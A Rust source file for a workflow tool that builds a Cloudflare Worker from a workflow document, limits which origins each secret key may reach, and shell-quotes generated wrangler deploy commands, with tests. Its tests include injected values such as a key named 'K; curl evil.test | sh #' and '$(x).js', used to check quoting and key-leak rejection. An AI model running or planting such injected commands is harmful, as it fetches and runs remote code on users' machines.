//! The workflow as a program of one file that serves it from the edge.

use indexmap::{IndexMap, IndexSet};
use stepweave_core::document::{Document, Secret};
use stepweave_core::json;

use crate::model::called::runs_code;
use crate::model::endpoints::is_endpoint;
use crate::model::filled::filled;
use crate::model::requests::{asks_servers, called_origins, is_open, requests, secret_of, token_origin};

/// The program, with marks where the document, the origins that it may reach, and its keys go.
const PROGRAM: &str = include_str!("worker.js");

/// What calls the tools of MCP servers.
const MCP: &str = "import \"stepweave/mcp\";\n";

/// What runs the JavaScript of a document.
const SANDBOX: &str = "import \"stepweave/sandbox\";\n";

/// The binding of the Worker that is its own: what callers have to send.
pub const ACCESS_TOKEN: &str = "ACCESS_TOKEN";

/// The longest name that a Worker has in an address.
const LONGEST_NAME: usize = 63;

/// Where a Worker sends requests.
#[derive(Debug, Clone, Default)]
pub struct Reach {
    /// The names of the keys, each with the origin that it is sent to, and where it is exchanged for tokens, the origin
    /// that takes these.
    pub keys: IndexMap<String, IndexSet<String>>,
    /// The origins of all models and requests, also of those that have no key.
    pub origins: IndexSet<String>,
}

impl Reach {
    /// The origins that no key goes to.
    pub fn without_key(&self) -> impl Iterator<Item = &String> {
        self.origins.iter().filter(|origin| !self.keys.values().any(|keyed| keyed.contains(*origin)))
    }
}

/// What a document needs of the package besides, each on a line: a Worker is one file and loads nothing later.
pub fn imports(document: &Document) -> String {
    let needed = [(asks_servers(document), MCP), (runs_code(document), SANDBOX)];
    needed.into_iter().filter_map(|(is_needed, import)| is_needed.then_some(import)).collect()
}

/// The program, with the document in it. It has the names of keys, never their values.
pub fn program(document: &Document, reach: &Reach) -> String {
    let imports = imports(document);
    // A document is plain data with text keys, which always has a JSON form; so have the names.
    let document = in_template(&json::lines(document));
    let origins = json::text(&reach.origins);
    let keys = json::text(&reach.keys.iter().collect::<Vec<_>>());
    let marks = [
        ("/* imports */", imports.as_str()),
        ("/* document */", &document),
        ("/* origins */", &origins),
        ("/* keys */", &keys),
    ];
    filled(PROGRAM, &marks)
}

/// Where the Worker of a document sends requests; or what is in the way, in sentences.
///
/// Whoever deploys the Worker sets keys by their names, so a name leads to one address alone, and names that everybody
/// knows to their provider's: a document must not say that a key goes elsewhere. `origin` gives the origin of an address.
pub fn reach(document: &Document, origin: impl Fn(&str) -> Option<String>) -> Result<Reach, Vec<String>> {
    let Reach { keys: mut found, mut origins } = Reach::default();
    let mut problems = Vec::new();
    for (id, model) in &document.models {
        if !is_endpoint(model.provider) {
            continue;
        }
        let address = model.base_url.as_deref().unwrap_or(model.provider.base_url());
        let Some(origin) = origin(address) else {
            problems.push(format!("The model “{id}” has no address that can be called: give it a base URL."));
            continue;
        };
        origins.insert(origin.clone());
        if let Some(secret) = &model.api_key {
            bind(&mut found, &mut problems, &format!("model “{id}”"), secret, IndexSet::from([origin]));
        }
    }
    for request in requests(document) {
        if is_open(&request) {
            problems.push(
                "A request goes wherever the data of a run leads: list the sites that it may go to."
                    .to_owned(),
            );
        }
        let called = called_origins(&request);
        let token = token_origin(&request);
        origins.extend(called.iter().chain(&token).cloned());
        if let Some(secret) = secret_of(&request) {
            for origin in called {
                let whose = format!("request to {origin}");
                let goes_to = token.iter().cloned().chain([origin]).collect();
                bind(&mut found, &mut problems, &whose, secret, goes_to);
            }
        }
    }
    if problems.is_empty() { Ok(Reach { keys: found, origins }) } else { Err(problems) }
}

/// Says that a key of a user goes to these origins, or why it cannot.
fn bind(
    found: &mut IndexMap<String, IndexSet<String>>,
    problems: &mut Vec<String>,
    whose: &str,
    Secret { secret: name }: &Secret,
    origins: IndexSet<String>,
) {
    let known = Secret::origin_of(name);
    let problem = if name == ACCESS_TOKEN {
        format!(
            "The {whose} calls its key {ACCESS_TOKEN}, which is the Worker's own secret: give that key another name."
        )
    } else if !Secret::is_name(name) {
        format!(
            "The key of the {whose} has a name that cannot be set: use letters from A to Z, digits and _."
        )
    } else if let Some((own, other)) =
        known.and_then(|own| Some((own, origins.iter().find(|one| *one != own)?)))
    {
        format!(
            "{name} goes to {own} only, and the {whose} is at {other}: give the key of that address a name of its own."
        )
    } else if let Some(first) = found.get(name).filter(|first| **first != origins) {
        let (first, others) = (listed(first), listed(&origins));
        format!("{name} would go to {first} and to {others}: give the key of each address a name of its own.")
    } else {
        found.insert(name.clone(), origins);
        return;
    };
    problems.push(problem);
}

/// Origins as a sentence has them.
pub fn listed(origins: &IndexSet<String>) -> String {
    origins.iter().map(String::as_str).collect::<Vec<_>>().join(" and ")
}

/// What a person types to serve the program of this file under this name.
pub fn commands<'a>(
    document: &Document,
    name: &str,
    file: &str,
    keys: impl Iterator<Item = &'a String>,
) -> String {
    let client = if asks_servers(document) { " @modelcontextprotocol/client" } else { "" };
    let (name, file) = (quoted(name), quoted(file));
    let set = keys.map(|key| format!("npx wrangler@4 secret put {} --name {name}\n", quoted(key)));
    format!(
        "npm install stepweave{client}\nnpx wrangler@4 deploy {file} --name {name} --compatibility-date 2026-04-01 --compatibility-flag enable_request_signal\n{}",
        set.collect::<String>()
    )
}

/// The name of a Worker of this workflow: lower-case letters, digits and `-`, as addresses have them.
pub fn worker_name(name: &str) -> String {
    let words = name.split(|letter: char| !letter.is_ascii_alphanumeric()).filter(|word| !word.is_empty());
    let joined = words.map(str::to_ascii_lowercase).collect::<Vec<_>>().join("-");
    let short: String = joined.chars().take(LONGEST_NAME).collect();
    match short.trim_end_matches('-') {
        "" => "workflow".to_owned(),
        name => name.to_owned(),
    }
}

/// A word of a command, in quotes where a shell could read it as anything else than a word.
fn quoted(word: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-.".contains(letter);
    if !word.is_empty() && !word.starts_with('-') && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// A text as it stands between the backticks of a JavaScript template. JSON is no JavaScript: there the key `__proto__`
/// would make a prototype.
fn in_template(text: &str) -> String {
    text.replace('\\', r"\\").replace('`', r"\`").replace("${", r"\${")
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::model::endpoints::origin_of;

    fn document(models: Value) -> Document {
        serde_json::from_value(
            json!({ "version": 1, "name": "/* keys */ `${n}` \\", "models": models, "steps": [] }),
        )
        .unwrap()
    }

    fn at(address: &str, secret: &str) -> Value {
        json!({ "provider": "openai", "model": "m", "baseUrl": address, "apiKey": { "secret": secret } })
    }

    #[test]
    fn the_program_has_the_document_what_it_reaches_and_where_its_keys_go() {
        let document = document(json!({
            "a": { "provider": "anthropic", "model": "m", "apiKey": { "secret": "ANTHROPIC_API_KEY" } },
            "b": at("https://ai.example/v1", "OWN"),
            "c": at("https://ai.example/v2", "OWN"),
            "d": { "provider": "demo", "model": "demo" },
            "e": { "provider": "ollama", "model": "m" }
        }));
        let reach = reach(&document, origin_of).unwrap();
        assert_eq!(reach.without_key().collect::<Vec<_>>(), ["http://localhost:11434"]);
        let program = program(&document, &reach);
        assert!(program.contains("one that waits for a person, at an approval, ends with 501"));
        assert!(program.contains(
            r#"allowOrigins = ["https://api.anthropic.com","https://ai.example","http://localhost:11434"];"#
        ));
        assert!(program.contains(
            r#"keys = [["ANTHROPIC_API_KEY",["https://api.anthropic.com"]],["OWN",["https://ai.example"]]];"#
        ));
        assert!(program.contains(r#""name": "/* keys */ \`\${n}\` \\\\""#), "{program}");
    }

    #[test]
    fn what_a_worker_loads_nowhere_else_is_imported_where_it_is_needed() {
        let with = |steps: Value, tools: Value| -> Document {
            serde_json::from_value(json!({ "version": 1, "name": "t", "steps": steps, "tools": tools }))
                .unwrap()
        };
        let code = json!({ "code": "return {};" });
        let step = json!({ "id": "s1", "type": "function", "name": "a", "run": code });
        let each = json!([{ "id": "s2", "type": "foreach", "name": "b", "items": "[]", "as": "c", "steps": [step] }]);
        let workflow = json!({ "d": { "description": "d", "run": { "workflow": { "steps": [step] } } } });
        assert_eq!(imports(&with(json!([]), json!({}))), "");
        for document in [
            with(json!([step]), json!({})),
            with(each, json!({})),
            with(json!([]), json!({ "d": { "description": "d", "run": code } })),
            with(json!([]), workflow),
        ] {
            assert_eq!(imports(&document), "import \"stepweave/sandbox\";\n");
            assert!(program(&document, &Reach::default()).contains("\nimport \"stepweave/sandbox\";\n"));
        }
    }

    #[test]
    fn a_key_goes_to_one_origin_and_a_known_one_to_its_providers() {
        for (models, said) in [
            (
                json!({ "own": { "provider": "openai", "model": "m", "apiKey": { "secret": "OPENAI_API_KEY" } }, "far": at("https://evil.test/v1", "OPENAI_API_KEY") }),
                "OPENAI_API_KEY goes to https://api.openai.com only, and the model “far” is at https://evil.test:",
            ),
            (
                json!({ "g": at("https://evil.test/v1", "GOOGLE_API_KEY") }),
                "GOOGLE_API_KEY goes to https://generativelanguage.googleapis.com only,",
            ),
            (
                json!({ "a": at("https://one.example/v1", "MINE"), "b": at("https://two.example/v1", "MINE") }),
                "MINE would go to https://one.example and to https://two.example:",
            ),
            (
                json!({ "t": at("https://evil.test/v1", "ACCESS_TOKEN") }),
                "The model “t” calls its key ACCESS_TOKEN,",
            ),
            (
                json!({ "z": { "provider": "azure", "model": "m", "apiKey": { "secret": "MINE" } } }),
                "The model “z” has no address",
            ),
            (
                json!({ "k": { "provider": "azure", "model": "m" } }),
                "The model “k” has no address that can be called: give it a base URL.",
            ),
        ] {
            let problems = reach(&document(models), origin_of).unwrap_err();
            assert!(problems.iter().any(|problem| problem.starts_with(said)), "{problems:?}");
        }
    }

    #[test]
    fn a_key_that_buys_tokens_goes_where_they_are_given_and_where_they_are_taken() {
        let calling = |urls: [&str; 2], token: &str| -> Document {
            let steps: Vec<Value> = urls
                .iter()
                .map(|url| {
                    json!({ "id": format!("s{}", url.len()), "type": "http", "name": "get", "http": { "url": url,
                        "auth": { "oauth2": { "tokenUrl": token, "clientId": "c", "clientSecret": { "secret": "MINE" } } } } })
                })
                .collect();
            serde_json::from_value(json!({ "version": 1, "name": "t", "steps": steps })).unwrap()
        };
        let document =
            calling(["https://api.example/a", "https://api.example/bc"], "https://login.example/token");
        let found = reach(&document, origin_of).unwrap();
        assert_eq!(listed(&found.keys["MINE"]), "https://login.example and https://api.example");
        assert_eq!(found.without_key().count(), 0);
        assert!(
            program(&document, &found)
                .contains(r#"keys = [["MINE",["https://login.example","https://api.example"]]];"#)
        );
        for document in [
            calling(["https://api.example/a", "https://evil.example/a"], "https://login.example/token"),
            serde_json::from_value(json!({ "version": 1, "name": "t", "steps": [
                { "id": "s", "type": "http", "name": "get", "http": { "url": "{{ url }}",
                    "origins": ["https://one.example", "https://two.example"], "auth": { "bearer": { "secret": "MINE" } } } } ] }))
            .unwrap(),
        ] {
            let problems = reach(&document, origin_of).unwrap_err();
            assert!(problems[0].starts_with("MINE would go to https://"), "{problems:?}");
        }
    }

    #[test]
    fn commands_hold_words_only() {
        let text = commands(&Document::new("t"), "my-flow", "my-flow.js", ["OWN".to_owned()].iter());
        assert!(text.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"), "{text}");
        let text =
            commands(&Document::new("t"), "it's", "$(x).js", ["K; curl evil.test | sh #".to_owned()].iter());
        assert!(text.contains(r"deploy '$(x).js' --name 'it'\''s' "), "{text}");
        assert!(text.ends_with("secret put 'K; curl evil.test | sh #' --name 'it'\\''s'\n"), "{text}");
    }

    #[test]
    fn a_worker_has_a_name_that_can_be_an_address() {
        assert_eq!(worker_name("Research report: bees!"), "research-report-bees");
        assert_eq!(worker_name("Größe 7"), "gr-e-7");
        assert_eq!(worker_name("調査"), "workflow");
        assert!(worker_name(&"long name ".repeat(20)).len() <= LONGEST_NAME);
    }
}
